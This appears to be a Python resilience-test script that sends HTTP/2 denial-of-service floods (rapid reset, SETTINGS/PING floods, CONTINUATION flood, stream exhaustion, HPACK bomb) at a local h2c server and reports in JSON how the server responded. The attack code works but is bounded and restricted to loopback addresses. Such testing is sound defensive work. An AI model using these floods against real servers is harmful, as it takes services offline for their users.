#!/usr/bin/python3
"""Single-connection HTTP/2 floods against an h2c server (issue 16, "what
held up"): each mode opens one connection to HOST:PORT, attacks, and prints
one JSON object saying how the server answered:

  {"mode": ..., "goaway": <error code or null>, "closed": bool,
   "refused": <RST_STREAM(REFUSED_STREAM) count>, "reset": <other RST_STREAM
   count>, "statuses": {status: count}, "sent": <frames sent>}

Modes:
  rapid-reset    HEADERS + RST_STREAM(CANCEL) pairs, as fast as possible
  settings       SETTINGS frames, never reading the ACKs
  ping           PING frames, never reading the ACKs
  continuation   one HEADERS without END_HEADERS, then endless CONTINUATIONs
  streams        300 request streams left open (no END_STREAM): how many are
                 refused beyond the server's limit
  hpack-bomb     a 4 KiB header put in the HPACK dynamic table, then one
                 request that refers to it 1,000 times (4 MiB decoded)

Every loop is bounded (by count and by --seconds); the socket has a
timeout. Only for loopback servers (the address is checked).

Usage: h2_floods.py HOST PORT MODE [--seconds S] [--path PATH]
"""
import argparse
import ipaddress
import json
import socket
import sys
import time

import hpack
from hyperframe.frame import (ContinuationFrame, Frame, GoAwayFrame, HeadersFrame, PingFrame, RstStreamFrame,
                              SettingsFrame)

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
REFUSED_STREAM = 0x7


class Conn:
    def __init__(self, host, port, seconds):
        # A small receive buffer: what the server answers (ACKs, resets)
        # backs up in the server rather than in this host's kernel, as with a
        # client that does not read.
        family = socket.AF_INET6 if ":" in host else socket.AF_INET
        self.sock = socket.socket(family, socket.SOCK_STREAM)
        self.sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        self.sock.settimeout(5)
        self.sock.connect((host, port))
        self.sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.deadline = time.monotonic() + seconds
        self.encoder = hpack.Encoder()
        self.buffer = b""
        self.result = {"goaway": None, "closed": False, "refused": 0, "reset": 0, "statuses": {}, "sent": 0}
        self.decoder = hpack.Decoder()
        self.decoder.max_allowed_table_size = 65536
        self.send(PREFACE + SettingsFrame(0).serialize())

    def send(self, data, frames=1):
        if self.result["closed"]:
            return False
        try:
            self.sock.sendall(data)
            self.result["sent"] += frames
            return True
        except (BrokenPipeError, ConnectionResetError, socket.timeout):
            self.result["closed"] = True
            return False

    def headers(self, stream_id, end_stream, extra=(), method="POST", path="/"):
        block = self.encoder.encode([(":method", method), (":scheme", "http"), (":authority", "localhost"),
                                     (":path", path), ("content-type", "application/json"), *extra])
        frame = HeadersFrame(stream_id, block)
        frame.flags.add("END_HEADERS")
        if end_stream:
            frame.flags.add("END_STREAM")
        return frame.serialize()

    def pump(self, wait):
        """Reads what the server sent, for at most `wait` seconds (0: only
        what is there). Returns False once the connection is closed."""
        if self.result["closed"]:
            return False
        self.sock.settimeout(wait if wait > 0 else 0.0001)
        try:
            while True:
                data = self.sock.recv(65536)
                if not data:
                    self.result["closed"] = True
                    return False
                self.buffer += data
                self.parse()
                self.sock.settimeout(0.0001)
        except (socket.timeout, BlockingIOError):
            return True
        except ConnectionResetError:
            self.result["closed"] = True
            return False

    def parse(self):
        while len(self.buffer) >= 9:
            frame, length = Frame.parse_frame_header(memoryview(self.buffer[:9]))
            if len(self.buffer) < 9 + length:
                return
            frame.parse_body(memoryview(self.buffer[9:9 + length]))
            self.buffer = self.buffer[9 + length:]
            if isinstance(frame, GoAwayFrame):
                self.result["goaway"] = frame.error_code
            elif isinstance(frame, RstStreamFrame):
                key = "refused" if frame.error_code == REFUSED_STREAM else "reset"
                self.result[key] += 1
            elif isinstance(frame, HeadersFrame):
                try:
                    for name, value in self.decoder.decode(frame.data):
                        if name in (":status", b":status"):
                            status = value.decode() if isinstance(value, bytes) else value
                            self.result["statuses"][status] = self.result["statuses"].get(status, 0) + 1
                except hpack.HPACKError:
                    pass
            elif isinstance(frame, SettingsFrame) and "ACK" not in frame.flags:
                ack = SettingsFrame(0)
                ack.flags.add("ACK")
                self.send(ack.serialize(), 0)

    def time_left(self):
        return time.monotonic() < self.deadline

    def finish(self):
        # Give the server a moment to answer what it got, then read it all.
        end = time.monotonic() + 2
        while time.monotonic() < end and self.pump(0.2) and self.result["goaway"] is None:
            pass
        self.sock.close()
        return self.result


def rapid_reset(c, args):
    stream_id = 1
    for _ in range(100_000):
        if not c.time_left() or stream_id > 2**31 - 2:
            break
        rst = RstStreamFrame(stream_id)
        rst.error_code = 0x8  # CANCEL
        if not c.send(c.headers(stream_id, True, method="GET", path=args.path) + rst.serialize(), 2):
            break
        stream_id += 2
        if stream_id % 200 == 1 and not c.pump(0):
            break


# SETTINGS and PING floods: 1,000 frames a write, up to 2,000 writes (34 MB
# of PINGs), more acknowledgements than socket buffers hold, so that they
# queue in the server unless it stops the flood.
def flood(c, frame):
    batch = frame * 1000
    for _ in range(2000):
        if not c.time_left() or not c.send(batch, 1000):
            break


def settings(c, _args):
    flood(c, SettingsFrame(0, settings={SettingsFrame.ENABLE_PUSH: 0}).serialize())


def ping(c, _args):
    flood(c, PingFrame(0, opaque_data=b"floodfld").serialize())


def continuation(c, args):
    block = c.encoder.encode([(":method", "POST"), (":scheme", "http"), (":authority", "localhost"),
                              (":path", args.path)])
    c.send(HeadersFrame(1, block).serialize())
    payload = c.encoder.encode([("x-filler", "a" * 16)])
    for _ in range(10_000):
        if not c.time_left():
            break
        batch = ContinuationFrame(1, payload).serialize() * 10
        if not c.send(batch, 10) or not c.pump(0):
            break


def streams(c, args):
    c.pump(0.5)  # the server's SETTINGS first
    for i in range(300):
        if not c.send(c.headers(2 * i + 1, False, path=args.path)):
            break
    c.pump(1)


def hpack_bomb(c, args):
    c.pump(0.5)
    big = ("x-bomb", "b" * 4000)
    # First request: puts the header in the dynamic table (and is itself fine).
    c.send(c.headers(1, True, extra=[big], method="GET", path=args.path))
    c.pump(0.5)
    # Second: refers to the table entry 1,000 times (one byte each on the wire).
    block = c.encoder.encode([(":method", "GET"), (":scheme", "http"), (":authority", "localhost"),
                              (":path", args.path)] + [big] * 1000)
    frame = HeadersFrame(3, block)
    frame.flags.add("END_HEADERS")
    frame.flags.add("END_STREAM")
    c.send(frame.serialize())
    c.pump(1)


MODES = {"rapid-reset": rapid_reset, "settings": settings, "ping": ping, "continuation": continuation,
         "streams": streams, "hpack-bomb": hpack_bomb}


def main():
    parser = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    parser.add_argument("host")
    parser.add_argument("port", type=int)
    parser.add_argument("mode", choices=sorted(MODES))
    parser.add_argument("--seconds", type=float, default=10)
    parser.add_argument("--path", default="/coral.colony.v1.ColonyService/GetStatus")
    args = parser.parse_args()
    if not ipaddress.ip_address(args.host).is_loopback:
        sys.exit("h2_floods.py: only loopback servers")
    c = Conn(args.host, args.port, args.seconds)
    MODES[args.mode](c, args)
    result = c.finish()
    result["mode"] = args.mode
    print(json.dumps(result))


if __name__ == "__main__":
    main()
